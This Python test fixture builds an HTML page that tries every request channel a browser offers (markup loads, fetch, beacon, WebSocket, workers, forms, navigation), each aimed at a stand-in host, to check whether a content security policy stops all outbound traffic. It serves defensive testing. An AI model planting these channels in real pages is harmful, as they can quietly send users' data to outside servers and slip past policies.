"""A page that asks for things elsewhere, by every means that a page has: what a test of "nothing leaves" must see.

Each means asks a host of its own name, so that it can be told which got through, even if it was encrypted.
"""

from __future__ import annotations

from collections.abc import Sequence

HOST = "elsewhere.example"

def _to(means: str) -> str:
    return f"http://{means}.{HOST}/"


def _worker(script: str) -> str:
    return f"new Worker(URL.createObjectURL(new Blob(['try {{ {script} }} catch {{}}'])))"


def _form(name: str, method: str) -> str:
    """A form sent into a frame, once that is there."""
    return f"""addEventListener("load", () => {{
        document.body.insertAdjacentHTML("beforeend", '<iframe name="{name}"></iframe>'
            + '<form id="{name}-sent" method="{method}" target="{name}" action="{_to(name)}"></form>');
        setTimeout(() => document.getElementById("{name}-sent").submit(), 200) }})"""


#: Means by markup.
_MARKUP = {
    "stylesheet": f'<link rel="stylesheet" href="{_to("stylesheet")}">',
    "preload": f'<link rel="preload" as="image" href="{_to("preload")}">',
    "prefetch": f'<link rel="prefetch" href="{_to("prefetch")}">',
    "modulepreload": f'<link rel="modulepreload" href="{_to("modulepreload")}">',
    "import": f'<style>@import "{_to("import")}";</style>',
    "background": f'<style>p {{ background-image: url("{_to("background")}") }}</style>',
    "font": f'<style>@font-face {{ font-family: f; src: url("{_to("font")}") }} p {{ font-family: f }}</style>',
    "img": f'<img alt="" src="{_to("img")}">',
    "srcset": f'<img alt="" srcset="{_to("srcset")} 1x">',
    "script": f'<script src="{_to("script")}"></script>',
    "module": f'<script type="module" src="{_to("module")}"></script>',
    "iframe": f'<iframe src="{_to("iframe")}"></iframe>',
    "object": f'<object data="{_to("object")}" type="text/html"></object>',
    "embed": f'<embed src="{_to("embed")}" type="text/html">',
    "video": f'<video src="{_to("video")}" preload="auto"></video>',
    "poster": f'<video poster="{_to("poster")}"></video>',
    "svg-image": f'<svg><image href="{_to("svg-image")}"/></svg>',
}
#: Means by script.
_SCRIPTS = {
    "fetch": f'fetch("{_to("fetch")}", {{ mode: "no-cors" }}).catch(() => 0)',
    "keepalive": f'fetch("{_to("keepalive")}", {{ mode: "no-cors", keepalive: true }}).catch(() => 0)',
    "xhr": f'const x = new XMLHttpRequest(); x.open("GET", "{_to("xhr")}"); x.send()',
    "beacon": f'navigator.sendBeacon("{_to("beacon")}", "what it knows")',
    "eventsource": f'new EventSource("{_to("eventsource")}")',
    "websocket": f'new WebSocket("ws://websocket.{HOST}/")',
    "dynamic-import": f'import("{_to("dynamic-import")}").catch(() => 0)',
    "new-image": f'new Image().src = "{_to("new-image")}"',
    "worker-fetch": _worker(f'fetch("{_to("worker-fetch")}", {{ mode: "no-cors" }}).catch(() => 0)'),
    "worker-import": _worker(f'importScripts("{_to("worker-import")}")'),
    "worker-websocket": _worker(f'new WebSocket("ws://worker-websocket.{HOST}/")'),
    "form": _form("form", "get"),
    "form-post": _form("form-post", "post"),
}
#: All that a page can do without leaving.
MEANS = (*_MARKUP, *_SCRIPTS)
#: Leads the page itself away, which no policy of a page's content forbids.
LEAVING = "leaving"
#: Each means on its own line; a page with it, and a policy in its head ("" without one).
_PAGE = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8">{policy}<title>It asks elsewhere</title><link rel="icon" href="data:,">
</head><body><p>Text</p>
{markup}
{scripts}
</body></html>
"""


def page(policy: str = "", leaving: bool = False, means: Sequence[str] = MEANS) -> bytes:
    """A page that tries MEANS, under a content security policy; LEAVING: goes elsewhere itself after a moment."""
    head = f'<meta http-equiv="Content-Security-Policy" content="{policy}">' if policy else ""
    markup = [_MARKUP[each] for each in means if each in _MARKUP]
    scripts = [_SCRIPTS[each] for each in means if each in _SCRIPTS]
    if leaving:
        scripts.append(f'setTimeout(() => {{ location = "{_to(LEAVING)}" }}, 300)')
    return _PAGE.format(policy=head, markup="\n".join(markup), scripts="\n".join(
        f"<script>try {{ {script} }} catch {{}}</script>" for script in scripts)).encode()


def means_of(urls: list[str]) -> set[str]:
    """Which of them the addresses that were asked for come from."""
    return {host.partition(":")[0].removesuffix(f".{HOST}")
            for url in urls for host in (url.partition("://")[2].partition("/")[0],)}
